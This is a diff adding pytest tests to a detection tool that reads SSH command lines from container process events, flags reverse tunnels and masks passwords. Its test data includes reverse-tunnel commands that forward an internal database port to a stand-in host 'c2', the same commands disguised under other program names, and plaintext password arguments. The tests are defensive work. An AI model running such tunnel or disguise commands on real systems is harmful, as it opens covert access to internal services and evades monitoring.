@@ -5,7 +5,7 @@ import shlex
 import pytest
 
 from app.domain.event import event_from_ecs
-from app.domain.ssh import MASK, FindingKind, SshInvocation, parse_ssh
+from app.domain.ssh import MASK, FindingKind, ForwardKind, SshInvocation, parse_ssh
 
 # process name | executable | command line -> headline in the container `web`
 READ = """
@@ -152,3 +152,89 @@ def test_all_targets_of_ssh_keyscan_are_read() -> None:
     assert invocation is not None
     assert invocation.destination == "10.0.0.1"
     assert invocation.more_targets == ("10.0.0.2", "DB", "10.1.0.0/16")
+
+
+# The caller of execve(2) chooses argv[0], so argv[0] must not choose how the arguments are read.
+TUNNEL = "Reverse tunnel out of web to c2, ssh under the name x"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "sshd -t -fNR 8080:db:80 root@c2",
+        "ssh-keyscan -fNR 8080:db:80 root@c2",
+        "busybox -fNR 8080:db:80 root@c2",
+        "ld-linux.so -fNR 8080:db:80 root@c2",
+        "plink -fNR 8080:db:80 root@c2",
+        "scp -R8080:db:80 root@c2",
+    ],
+)
+def test_argv0_does_not_hide_the_forwards_of_a_copy_of_ssh(line: str) -> None:
+    process = {"name": "x", "executable": "/opt/x", "args": shlex.split(line)}
+    event = event_from_ecs({"container": {"name": "web"}, "process": process})
+    assert event.headline == TUNNEL
+
+
+def test_a_renamed_program_gets_no_points_for_opening_no_connection() -> None:
+    invocation = parse("x", "/opt/x", "sshd -t")
+    assert invocation is not None
+    assert not invocation.has_finding(FindingKind.NO_CONNECTION)
+
+
+@pytest.mark.parametrize(
+    ("name", "executable", "line"),
+    [
+        ("x", "/usr/bin/sshpass", "x -p hunter2 ssh root@h"),
+        ("memfd:sshpass (deleted)", "/memfd:sshpass (deleted)", "x -phunter2 ssh root@h"),
+        ("plink", None, "plink -P 22 -pw hunter2 -l root h"),
+    ],
+)
+def test_passwords_are_masked_under_every_name(
+    name: str, executable: str | None, line: str
+) -> None:
+    process = {"name": name, "args": shlex.split(line)}
+    event = event_from_ecs(
+        {"process": process | ({"executable": executable} if executable else {})}
+    )
+    assert "hunter2" not in event.process.command_line
+    assert "hunter2" not in repr(event.ssh)
+
+
+def test_pw_is_no_password_option_of_ssh() -> None:
+    """ssh warns that the key file `-pw` is missing, and connects (ssh(1), option -i)."""
+    event = event_from_ecs(
+        {
+            "container": {"name": "web"},
+            "process": {"name": "ssh", "args": ["ssh", "-i", "-pw", "203.0.113.9"]},
+        }
+    )
+    assert event.headline == "ssh to 203.0.113.9"
+
+
+def test_options_of_plink_may_follow_the_host_and_the_last_port_counts() -> None:
+    invocation = parse("plink", None, "plink -P 22 root@c2 -N -R 8080:db:80 -P 4444")
+    assert invocation is not None
+    assert (invocation.port, [forward.kind for forward in invocation.forwards]) == (
+        4444,
+        [ForwardKind.REMOTE],
+    )
+
+
+def test_a_copy_of_ssh_under_the_name_plink_is_read_as_ssh() -> None:
+    event = event_from_ecs(
+        {
+            "container": {"name": "web"},
+            "process": {
+                "name": "plink",
+                "args": ["plink", "-oBatchMode=yes", "-fNR", "8080:db:80", "root@c2"],
+            },
+        }
+    )
+    assert event.headline == "Reverse tunnel out of web to c2, ssh under the name plink"
+
+
+def test_long_arguments_in_one_text_are_split_in_linear_time() -> None:
+    """shlex takes quadratic time for a long word: minutes for one event of the largest size."""
+    process = {"name": "ssh", "args": "ssh " + "a" * 2_000_000}
+    event = event_from_ecs({"process": process})
+    assert len(event.process.args) == 2
